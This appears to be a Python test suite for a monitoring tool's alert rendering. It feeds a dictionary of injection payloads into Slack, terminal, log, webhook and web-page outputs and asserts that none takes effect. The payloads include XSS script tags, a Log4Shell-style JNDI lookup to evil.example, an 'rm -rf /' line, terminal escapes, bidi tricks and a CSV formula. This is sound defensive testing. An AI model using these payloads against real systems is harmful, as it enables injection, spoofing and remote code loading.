"""Names come from logs: whatever they say, they say it and do nothing, wherever a person or a machine reads them."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
import structlog

from monitor.adapters.slack.render import Renderer
from monitor.adapters.slack.terminal import as_text
from monitor.adapters.webhook import cloud_event
from monitor.cli.common import show_table
from monitor.config import LogFormat
from monitor.core.alerts import Alert
from monitor.logs import configure_logs
from monitor.notify import bodies
from monitor.notify.samples import samples
from tests.alert_factories import alert
from tests.block_kit import faults_of
from tests.contract.store.factories import OLD, T0
from tests.contract.store.factories import event as used
from tests.unit.page.site import Visitor

ATTACKS = {
    "mention everyone": "<!channel> <!here> @channel",
    "mention a user": "<@U012AB3CD>",
    "mention a group": "<!subteam^S012AB|admins>",
    "channel link": "<#C012AB3CD|general>",
    "slack link": "<https://evil.example|status page>",
    "bare link": "https://evil.example/login",
    "mail link": "<mailto:a@evil.example|mail>",
    "date token": "<!date^1392734382^{date}^https://evil.example|x>",
    "bold and strike": "*bold* ~struck~",
    "italic": "_lean_",
    "code fence": "```\nrm -rf /\n```",
    "quote and list": "> quoted\n• listed",
    "emoji": ":rotating_light: :white_check_mark:",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;!channel&gt; &amp;",
    "terminal control": "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "bidi": "acme\u202egnp.exe\u2066",
    "zero width": "ac\u200bme\u200d\ufeff\u2060",
    "newlines": "acme\r\nlevel=info event=all_is_well\u2028\u2029\x85",
    "json": '","severity":"info","x":{"y":["',
    "long": "A" * 20_000,
    "surrogates and tags": "a\ud800b\U000e0041\U000e0042",
    "template": "{{7*7}} ${jndi:ldap://evil.example} %s %n",
    "csv formula": '=HYPERLINK("https://evil.example")\t+1',
}
STEERING = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
CODE = re.compile(r"`[^`]*`")


@pytest.fixture(params=ATTACKS.values(), ids=ATTACKS)
def hostile(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def named(hostile: str, **given: Any) -> Alert:
    """Return an alert in which every name is hostile, and the sentence too."""
    names = dict.fromkeys(("client", "source", "gateway", "region", "cause", "key", "rollover", "text"), hostile)
    return alert(episode=f"e:{hostile}", evidence={"what_would_clear_it": hostile}, **{**names, **given})


def messages(hostile: str) -> list[dict[str, Any]]:
    """Return every kind of message about it."""
    told = named(hostile)
    overview: Any = dict(samples(channel="#c", at_ms=T0)["overview"])
    blocker = {"clause": "C7", "caller": {"client": hostile, "source": hostile}, "summary": hostile}
    overview["decision"] = {
        **overview["decision"],
        "key": hostile,
        "rollover": hostile,
        "blockers": [{**blocker, "what_would_clear_it": hostile}] * 7,
        "eta": {"state": "waiting", "earliest_go": None, "limited_by": hostile},
    }
    return [
        overview,
        bodies.alert(channel="#c", told=told, why="first", thread_of=None),
        bodies.reminder(channel="#c", audience=hostile, alerts=[told.as_json()] * 12, at="now", level=0),
    ]


def texts(node: Any) -> Iterator[dict[str, Any]]:
    """Yield the text objects of blocks."""
    if isinstance(node, dict):
        if node.get("type") in {"mrkdwn", "plain_text"}:
            yield node
        for each in node.values():
            yield from texts(each)
    elif isinstance(node, list):
        for each in node:
            yield from texts(each)


@pytest.mark.parametrize("interactive", [True, False])
def test_in_slack_nothing_takes_effect(hostile: str, *, interactive: bool) -> None:
    for body in messages(hostile):
        made = Renderer(interactive=interactive).render(body)
        assert faults_of({"text": made.text, "blocks": made.blocks}) == []
        for each in [*texts(made.blocks), {"type": "mrkdwn", "text": made.text, "verbatim": True}]:
            text = each["text"]
            assert not [char for char in text if unicodedata.category(char) in STEERING and char != "\n"]
            if each["type"] == "plain_text":
                continue
            assert each["verbatim"], "Slack is told to make no links and mentions of its own"
            assert "<" not in text
            assert ">" not in text
            assert "://" not in text
            assert text.count("`") % 2 == 0
            outside = CODE.sub("", text)
            for markup in ("*bold*", "~struck~", "_lean_", ":rotating_light:", "```\nrm"):
                assert markup not in outside


def test_a_terminal_shows_one_harmless_line(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    show_table(["Client"], [[hostile]], empty="")
    shown = capsys.readouterr().out
    assert len(shown.splitlines()) == 2
    for body in messages(hostile):
        shown += as_text(Renderer().render(body).blocks)
    assert not [char for char in shown if unicodedata.category(char) in STEERING and char != "\n"]


@pytest.mark.parametrize("format_", [LogFormat.JSON, LogFormat.CONSOLE])
def test_a_log_record_stays_one_record(hostile: str, format_: LogFormat, capfd: pytest.CaptureFixture[str]) -> None:
    configure_logs(level="info", format_=format_)
    try:
        structlog.get_logger().info("alert", episode=hostile, text=hostile)
    finally:
        structlog.reset_defaults()
    (line,) = capfd.readouterr().err.splitlines()
    assert not [char for char in line if unicodedata.category(char) == "Cc"]
    if format_ is LogFormat.JSON:
        assert json.loads(line)["event"] == "alert"


def test_a_webhook_carries_it_as_data_in_plain_ascii(hostile: str) -> None:
    body = bodies.alert(channel="webhook", told=named(hostile), why="first", thread_of=None)
    sent = json.dumps(cloud_event(body, "key"), ensure_ascii=True).encode()
    read = json.loads(sent)
    assert read["data"]["alert"]["severity"] == "warning"
    assert read["data"]["alert"]["client"] == hostile
    assert "\n" not in read["subject"]


def test_a_page_shows_it_and_runs_nothing() -> None:
    world = Visitor()
    clients = [each.encode("utf-8", "replace").decode()[:200] for each in ATTACKS.values()]
    world.api.feed.flush(
        [used(world.api.time.now_ms - 1_000, credential=OLD, client=each) for each in clients], fine=frozenset({OLD})
    )
    world.api.probed()
    world.log_in()
    page = world.get("/rollovers/billing-2026-05").text
    assert "alert(1)" in page, "they are shown"
    for forbidden in ("<script>alert", "<img src=x", '<a href="https://evil', "\x1b", "\u202e", "\u200b"):
        assert forbidden not in page
